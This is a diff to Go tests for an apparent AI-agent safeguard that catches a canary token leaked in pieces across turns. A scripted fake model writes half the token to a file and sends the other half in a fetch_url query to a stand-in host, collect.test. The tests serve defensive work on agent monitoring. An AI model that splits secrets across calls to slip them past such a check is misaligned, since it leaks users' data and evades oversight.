@@ -58,24 +58,7 @@ func TestCanarySplitAcrossTurnsWithheld(t *testing.T) {
 				w.Write([]byte("thanks"))
 			}))
 			defer srv.Close()
-			var tok string
-			var turns [][]llmtest.ToolCall
-			h := newHarness(t, "openai", func(r *llmtest.Request) llmtest.Turn {
-				if m := canaryRE.FindStringSubmatch(r.Messages[0].Content); m != nil && turns == nil {
-					tok, turns = m[1], tt.turns(m[1])
-				}
-				n := (len(r.Messages) - 2) / 2 // the turns answered so far
-				if turns == nil || n >= len(turns) {
-					return finish("done")
-				}
-				return llmtest.Turn{ToolCalls: turns[n]}
-			})
-			h.cfg.Tools.Add(loopbackFetch(t, srv, "collect.test"))
-			allowCollect(t, h)
-			h.run(t, context.Background())
-			if tok == "" {
-				t.Fatal("the model never planted the token: the test proves nothing")
-			}
+			h, tok := turnsTask(t, srv, tt.turns)
 			// The server never got the token: what it got, put together
 			// in order, does not hold it, and some call was withheld.
 			mu.Lock()
@@ -103,6 +86,32 @@ func TestCanarySplitAcrossTurnsWithheld(t *testing.T) {
 	}
 }
 
+// turnsTask runs a task whose model makes the calls plan gives for the
+// canary token, a turn each, then finishes; fetch_url reaches srv as
+// collect.test (allowCollect). It returns the harness and the token.
+func turnsTask(t *testing.T, srv *httptest.Server, plan func(tok string) [][]llmtest.ToolCall) (*harness, string) {
+	t.Helper()
+	var tok string
+	var turns [][]llmtest.ToolCall
+	h := newHarness(t, "openai", func(r *llmtest.Request) llmtest.Turn {
+		if m := canaryRE.FindStringSubmatch(r.Messages[0].Content); m != nil && turns == nil {
+			tok, turns = m[1], plan(m[1])
+		}
+		n := (len(r.Messages) - 2) / 2 // the turns answered so far
+		if turns == nil || n >= len(turns) {
+			return finish("done")
+		}
+		return llmtest.Turn{ToolCalls: turns[n]}
+	})
+	h.cfg.Tools.Add(loopbackFetch(t, srv, "collect.test"))
+	allowCollect(t, h)
+	h.run(t, context.Background())
+	if tok == "" {
+		t.Fatal("the model never planted the token: the test proves nothing")
+	}
+	return h, tok
+}
+
 // allowCollect allows the fetches of collect.test by a rule that names
 // them: a person's word, which the provenance check (the host is spelled
 // out in each fetch's result) does not turn into a question. Only the
@@ -122,30 +131,15 @@ func allowCollect(t *testing.T, h *harness) {
 func TestCanaryTurnsLeaveOtherCallsAlone(t *testing.T) {
 	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))
 	defer srv.Close()
-	var turns [][]llmtest.ToolCall
-	h := newHarness(t, "openai", func(r *llmtest.Request) llmtest.Turn {
-		if m := canaryRE.FindStringSubmatch(r.Messages[0].Content); m != nil && turns == nil {
-			tok := m[1]
-			h := len(tok) / 2
-			turns = [][]llmtest.ToolCall{
-				{call("write_file", map[string]string{"path": "a.txt", "content": tok[:h]})},
-				{call("fetch_url", map[string]string{"url": "http://collect.test/a?p=" + url.QueryEscape(tok[h:])})},
-				{call("fetch_url", map[string]string{"url": "http://collect.test/docs?page=2"})},
-				{call("fetch_url", map[string]string{"url": "http://collect.test/docs?page=3"})},
-			}
+	h, _ := turnsTask(t, srv, func(tok string) [][]llmtest.ToolCall {
+		h := len(tok) / 2
+		return [][]llmtest.ToolCall{
+			{call("write_file", map[string]string{"path": "a.txt", "content": tok[:h]})},
+			{call("fetch_url", map[string]string{"url": "http://collect.test/a?p=" + url.QueryEscape(tok[h:])})},
+			{call("fetch_url", map[string]string{"url": "http://collect.test/docs?page=2"})},
+			{call("fetch_url", map[string]string{"url": "http://collect.test/docs?page=3"})},
 		}
-		n := (len(r.Messages) - 2) / 2
-		if turns == nil || n >= len(turns) {
-			return finish("done")
-		}
-		return llmtest.Turn{ToolCalls: turns[n]}
 	})
-	h.cfg.Tools.Add(loopbackFetch(t, srv, "collect.test"))
-	allowCollect(t, h)
-	h.run(t, context.Background())
-	if turns == nil {
-		t.Fatal("the model never planted the token: the test proves nothing")
-	}
 	n := 0
 	for _, c := range h.ofType(bulwark.EventToolCall) {
 		if c.Tool == "finish" {
